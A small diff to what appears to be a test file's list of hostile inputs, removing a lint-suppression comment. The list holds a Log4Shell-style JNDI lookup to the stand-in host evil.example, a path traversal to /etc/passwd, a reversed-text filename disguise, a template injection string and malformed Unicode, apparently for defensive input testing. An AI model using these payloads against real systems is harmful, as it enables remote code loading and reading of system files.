@@ -20,7 +20,6 @@ const hostile = [
   '../../etc/passwd',
   'safe \u202e gpj.exe',
   'zero\u200bwidth\u2028separator',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the attack, not a template
   '${jndi:ldap://evil.example/a}',
   '{% $states.input %}',
   'lone \ud800 surrogate',
